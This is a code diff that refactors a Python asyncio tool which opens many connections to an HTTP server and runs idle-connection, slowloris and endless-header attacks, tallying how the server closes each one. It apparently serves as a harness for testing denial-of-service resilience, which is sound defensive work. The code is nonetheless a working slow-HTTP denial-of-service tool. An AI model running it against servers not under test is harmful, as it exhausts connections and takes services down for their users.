@@ -24,7 +24,12 @@ import contextlib
 import json
 import resource
 import time
+from collections.abc import Awaitable, Callable
 from dataclasses import asdict, dataclass, field
+
+# One attack on one open connection: what it does until the server closes it or the run ends;
+# it answers the first bytes the server sent (b"" when none).
+Talk = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[bytes]]
 
 
 @dataclass
@@ -98,74 +103,69 @@ class Attack:
 
     # -- the attacks -----------------------------------------------------------------------
 
-    async def idle_one(self) -> None:
-        """One connection that never sends; reopened whenever the server closes it."""
+    async def repeat(self, talk: Talk, pause: float = 0.0) -> None:
+        """Connect, ``talk`` until the server closes or the run ends, count how it ended;
+        again until the run ends (after ``pause`` seconds, as a real client takes)."""
         while time.monotonic() < self.stop_at:
             pair = await self.connect()
             if pair is None:
                 continue
             reader, writer = pair
             since = time.monotonic()
-            first = b""
-            with contextlib.suppress(OSError, TimeoutError):
-                async with asyncio.timeout(max(self.stop_at - time.monotonic(), 0)):
-                    first = await reader.read(4096)
-            self.closed(writer, since, first)
+            self.closed(writer, since, await talk(reader, writer))
+            if pause:
+                await asyncio.sleep(pause)
 
-    async def slowloris_one(self) -> None:
-        """One client that never finishes its headers; it reconnects when closed."""
-        while time.monotonic() < self.stop_at:
-            pair = await self.connect()
-            if pair is None:
-                continue
-            reader, writer = pair
-            since = time.monotonic()
-            first = b""
-            try:
-                await self.send(writer, b"GET /healthz HTTP/1.1\r\nHost: target\r\n")
-                n = 0
-                while time.monotonic() < self.stop_at:
-                    with contextlib.suppress(TimeoutError):
-                        async with asyncio.timeout(self.args.interval):
-                            first = await reader.read(4096)
-                            break  # the server answered or closed
-                    n += 1
-                    await self.send(writer, b"X-Slow-%d: %d\r\n" % (n, n))
-            except OSError:
-                pass
-            self.closed(writer, since, first)
+    def left_s(self) -> float:
+        return max(self.stop_at - time.monotonic(), 0)
 
-    async def headers_one(self) -> None:
-        """One client sending an endless header, then holding; again when closed."""
+    async def idle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> bytes:
+        """Never send: wait for the server to close (its first bytes, if any)."""
+        with contextlib.suppress(OSError, TimeoutError):
+            async with asyncio.timeout(self.left_s()):
+                return await reader.read(4096)
+        return b""
+
+    async def slowloris(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> bytes:
+        """Never finish the headers: one more header line every ``--interval`` seconds."""
+        try:
+            await self.send(writer, b"GET /healthz HTTP/1.1\r\nHost: target\r\n")
+            n = 0
+            while time.monotonic() < self.stop_at:
+                with contextlib.suppress(TimeoutError):
+                    async with asyncio.timeout(self.args.interval):
+                        return await reader.read(4096)  # the server answered or closed
+                n += 1
+                await self.send(writer, b"X-Slow-%d: %d\r\n" % (n, n))
+        except OSError:
+            pass
+        return b""
+
+    async def headers(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> bytes:
+        """Send one endless header (``--header-mb``), then hold."""
         chunk = b"a" * 65_536
-        while time.monotonic() < self.stop_at:
-            pair = await self.connect()
-            if pair is None:
-                continue
-            reader, writer = pair
-            since = time.monotonic()
-            first = b""
-            try:
-                await self.send(writer, b"GET /healthz HTTP/1.1\r\nHost: target\r\nX-Endless: ")
-                for _ in range(self.args.header_mb * 16):
-                    if reader.at_eof() or time.monotonic() > self.stop_at:
-                        break
-                    await self.send(writer, chunk)
-                async with asyncio.timeout(max(self.stop_at - time.monotonic(), 0)):
-                    first = await reader.read(4096)
-            except (OSError, TimeoutError):
-                pass
-            self.closed(writer, since, first)
-            await asyncio.sleep(0.5)  # a pause before the next try, as a real client takes
+        try:
+            await self.send(writer, b"GET /healthz HTTP/1.1\r\nHost: target\r\nX-Endless: ")
+            for _ in range(self.args.header_mb * 16):
+                if reader.at_eof() or time.monotonic() > self.stop_at:
+                    break
+                await self.send(writer, chunk)
+            async with asyncio.timeout(self.left_s()):
+                return await reader.read(4096)
+        except (OSError, TimeoutError):
+            return b""
 
     async def run(self) -> dict[str, object]:
         self.stop_at = time.monotonic() + self.args.seconds
-        one = {"idle": self.idle_one, "slowloris": self.slowloris_one}.get(self.args.attack)
-        if one is None:
-            one = self.headers_one
+        talks: dict[str, tuple[Talk, float]] = {  # and the pause before the next connection
+            "idle": (self.idle, 0.0),
+            "slowloris": (self.slowloris, 0.0),
+            "headers": (self.headers, 0.5),
+        }
+        talk, pause = talks[self.args.attack]
         async with asyncio.TaskGroup() as group:
             for _ in range(self.args.count):
-                group.create_task(one())
+                group.create_task(self.repeat(talk, pause))
         return self.tally.report(self.args.seconds)
 
 
